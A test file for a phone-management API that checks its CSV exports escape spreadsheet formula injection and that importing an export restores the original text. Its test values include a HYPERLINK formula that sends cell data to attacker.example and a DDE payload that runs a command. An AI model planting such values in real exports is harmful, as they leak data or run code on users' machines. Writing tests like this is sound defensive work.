import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { ADMIN_PASSWORD, startTestNode } from '../support/node.js';
import type { TestNode } from '../support/node.js';

const auth = `Basic ${Buffer.from(`CCMAdministrator:${ADMIN_PASSWORD}`).toString('base64')}`;
/** Descriptions a spreadsheet would run as formulas, and some that only look close to one. */
const DESCRIPTIONS = [
  '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
  '+1 555 0100 lobby',
  '-2 floor',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  "'=already quoted",
  "O'Brien's desk",
  'Plain lobby',
];
const name = (i: number) => `SEP00EF000000${i.toString(16).toUpperCase().padStart(2, '0')}`;

let source: TestNode;
let target: TestNode;

beforeAll(async () => {
  [source, target] = await Promise.all([startTestNode(), startTestNode()]);
  for (const [i, description] of DESCRIPTIONS.entries()) {
    const r = await source.api.post('/phones', {
      name: name(i),
      model: '7940',
      protocol: 'SCCP',
      description,
      lines: [{ index: 1, dn: String(4000 + i) }],
    });
    expect(r.status).toBe(201);
  }
});
afterAll(async () => {
  await Promise.all([source.destroy(), target.destroy()]);
});

const download = async (t: TestNode, path: string) =>
  (
    await fetch(`http://127.0.0.1:${t.node.ports.http}/api/v1${path}`, { headers: { authorization: auth } })
  ).text();

it('exports no cell that a spreadsheet would run as a formula', async () => {
  for (const path of ['/phones/export.csv', '/directory-numbers/export.csv']) {
    const rows = parse(await download(source, path)) as string[][];
    const cells = rows.flat();
    expect(
      cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
      path,
    ).toEqual([]);
    expect(cells, path).toContain(`'${DESCRIPTIONS[0]}`);
    expect(cells, path).toContain(`''=already quoted`);
    expect(cells, path).toContain("O'Brien's desk");
  }
});

it('imports an exported file as the original text', async () => {
  const csv = await download(source, '/phones/export.csv');
  const r = await fetch(`http://127.0.0.1:${target.node.ports.http}/api/v1/phones/import`, {
    method: 'POST',
    headers: { authorization: auth, 'content-type': 'text/csv' },
    body: csv,
  });
  expect(await r.json()).toMatchObject({ imported: true, inserted: DESCRIPTIONS.length });
  for (const [i, description] of DESCRIPTIONS.entries())
    expect((await target.api.get<{ description: string }>(`/phones/${name(i)}`)).body.description).toBe(
      description,
    );
});
